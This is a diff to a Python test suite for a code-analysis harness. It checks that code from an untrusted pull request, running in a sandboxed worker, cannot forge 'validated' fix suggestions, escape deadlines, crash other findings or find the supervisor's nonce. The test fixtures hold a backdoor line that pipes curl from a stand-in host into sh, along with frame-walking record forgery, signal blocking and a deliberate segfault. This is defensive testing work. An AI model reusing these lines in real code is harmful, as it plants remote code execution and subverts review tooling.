@@ -696,49 +696,44 @@ import sys
 
 import torch
 
-_DONE = []
-
 
 def _forge():
-    """Find the job by walking up the frames, turn the real fix stage off, and print a
-    'validated' fix whose suggestion is a backdoor."""
-    harness = sys.modules.get("runners.harness")
-    frame = sys._getframe()
+    """Once the fix stage runs (its frame is on the stack), print a 'validated' fix whose
+    suggestion is a backdoor, ahead of the real one, on the worker's own record channel."""
+    frame, fix_stage, finding = sys._getframe(), False, None
     while frame is not None:
-        job = frame.f_locals.get("job")
-        if isinstance(job, dict) and "nonce" in job:
-            break
+        fix_stage = fix_stage or frame.f_code.co_name == "_fix_stage"
+        if isinstance(frame.f_locals.get("finding"), dict):
+            finding = frame.f_locals["finding"]
         frame = frame.f_back
-    else:
+    if not fix_stage or finding is None or getattr(sys, "_numcheck_forged", False):
         return
-    job["fix"] = False
-    out = getattr(harness, "_RECORDS", None) or sys.stdout
+    sys._numcheck_forged = True
+    out = next((m._RECORDS for m in list(sys.modules.values())  # the worker's channel
+                if getattr(m, "_RECORDS", None) is not None), sys.stdout)
     backdoor = "    import os; os.system('curl https://evil.invalid | sh')\\n"
-    for finding in job["findings"]:
-        fix = {"status": "validated", "kind": "clamp", "name": "clamp",
-               "description": "clamp the operand", "path": finding["path"],
-               "diff": "+" + backdoor, "start_line": finding["line"],
-               "end_line": finding["line"], "replacement": backdoor,
-               "original": "    return torch.log(x)\\n", "suggestion_complete": True,
-               "imports": [], "suggestion": backdoor}
-        out.write(json.dumps({"fingerprint": finding["fingerprint"], "stage": "fix",
-                              "fix": fix, "nonce": job["nonce"]}) + "\\n")
-        out.flush()
+    fix = {"status": "validated", "kind": "clamp", "name": "clamp",
+           "description": "clamp the operand", "path": finding["path"],
+           "diff": "+" + backdoor, "start_line": finding["line"],
+           "end_line": finding["line"], "replacement": backdoor,
+           "original": "    return torch.log(x)\\n", "suggestion_complete": True,
+           "imports": [], "suggestion": backdoor}
+    out.write(json.dumps({"fingerprint": finding["fingerprint"], "stage": "fix",
+                          "fix": fix}) + "\\n")
+    out.flush()
 
 
 def rate(x: torch.Tensor) -> torch.Tensor:
-    if not _DONE:
-        _DONE.append(1)
-        _forge()
+    _forge()
     return torch.log(x)
 '''
 
 
 def test_a_forged_fix_record_never_becomes_a_suggestion(git_repo: GitRepoFactory) -> None:
-    """The PR's code runs in the harness's process: it can reach the job and its nonce and
-    print a 'validated' fix of its own. The host makes the fix's text itself
-    (runners/trusted.py), so the forgery is rejected and nothing of it is suggested or
-    written by `--fix`."""
+    """The PR's code runs in the harness's worker: during its own finding's fix stage it can
+    print a 'validated' fix of its own on the worker's channel, which the supervisor relays
+    (the stage is that finding's). The host makes the fix's text itself (runners/trusted.py),
+    so the forgery is rejected and nothing of it is suggested or written by `--fix`."""
     from analyzers.config import Config
     from analyzers.report.markdown import render_markdown
     from runners.pipeline import analyze
@@ -753,3 +748,96 @@ def test_a_forged_fix_record_never_becomes_a_suggestion(git_repo: GitRepoFactory
     assert finding.fix["reason"] == NOT_TRUSTED
     assert "evil.invalid" not in render_markdown(result)
     assert "evil.invalid" not in json.dumps(result.to_json())
+
+
+# ---------------------------------------------------------------- the worker under a supervisor
+#
+# The PR's code runs in the harness's worker; the supervisor (runners/supervisor.py) holds the
+# nonce and the deadlines. One job: a finding whose code blocks the worker's own deadline
+# signal and loops, one whose code segfaults, one that forges another finding's record and
+# looks for the nonce, then the ordinary finding, which must still be confirmed.
+
+UNRULY = '''\
+import ctypes
+import gc
+import json
+import signal
+import sys
+
+import torch
+from torch import Tensor
+
+
+def blocker(x: Tensor) -> Tensor:
+    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})
+    signal.signal(signal.SIGALRM, signal.SIG_IGN)
+    while True:
+        pass
+    return torch.log(x)
+
+
+def segfault(x: Tensor) -> Tensor:
+    ctypes.string_at(0)
+    return torch.log(x)
+
+
+def forger(x: Tensor) -> Tensor:
+    out = next((m._RECORDS for m in list(sys.modules.values())  # the worker's channel
+                if getattr(m, "_RECORDS", None) is not None), sys.stdout)
+    for line in OTHERS:
+        out.write(json.dumps({"fingerprint": line, "status": "not-triggered",
+                              "forged": True}) + "\\n")
+    out.flush()
+    found = [o for o in gc.get_objects() if isinstance(o, dict) and "nonce" in o]
+    _report({"nonce dicts": len(found)})
+    return torch.log(x)
+
+
+def _report(seen):
+    raise RuntimeError("seen " + json.dumps(seen))
+'''
+
+
+@pytest.fixture(scope="module")
+def unruly(tmp_path_factory: pytest.TempPathFactory) -> Probe:
+    repo = tmp_path_factory.mktemp("unruly") / "repo"
+    repo.mkdir()
+    others = [f.fingerprint for f in scan_source(ORDINARY, "probes/ordinary.py").findings]
+    source = UNRULY.replace("OTHERS", repr(others))
+    job_modules = {"probes/__init__.py": "", "probes/unruly.py": source,
+                   "probes/ordinary.py": ORDINARY}
+    fingerprints, findings = {}, []
+    for path, text in job_modules.items():
+        (repo / path).parent.mkdir(parents=True, exist_ok=True)
+        (repo / path).write_text(text, encoding="utf-8")
+        for finding in scan_source(text, path).findings:
+            fingerprints[finding.function] = finding.fingerprint
+            findings.append(finding.to_json())
+    assert list(fingerprints) == ["blocker", "segfault", "forger", "log_of_softmax"]
+    job = {"repo": str(repo), "findings": findings, "entries": [], "seed": 0,
+           "search_seconds": 1.0, "finding_timeout": 10.0, "harvest": False, "fix": False}
+    started = time.monotonic()
+    result = LocalRunner(limits=Limits(stderr_bytes=16 * 1024)).run(job, timeout=240)
+    probe = Probe(repo, result, fingerprints)
+    probe.seconds = time.monotonic() - started  # type: ignore[attr-defined]
+    return probe
+
+
+def test_a_blocked_deadline_signal_is_stopped_by_the_supervisor(unruly: Probe) -> None:
+    assert unruly.result.outcome == "ok", (unruly.result.reason, unruly.result.stderr[-2000:])
+    record = unruly.record("blocker")
+    assert record["status"] == "error", record
+    assert record["error"].startswith("timeout") and "supervisor" in record["error"], record
+
+
+def test_a_crashing_worker_costs_only_its_finding(unruly: Probe) -> None:
+    record = unruly.record("segfault")
+    assert record["status"] == "error" and "SIGSEGV" in record["error"], record
+
+
+def test_the_worker_holds_no_nonce_and_cannot_forge_another_finding(unruly: Probe) -> None:
+    record = unruly.record("forger")
+    assert record["status"] == "error" and '"nonce dicts": 0' in record["error"], record
+    assert not [r for r in unruly.result.records if r.get("forged")]
+    assert unruly.record("log_of_softmax")["status"] == "confirmed"
+    assert "dropped a record" in unruly.result.stderr
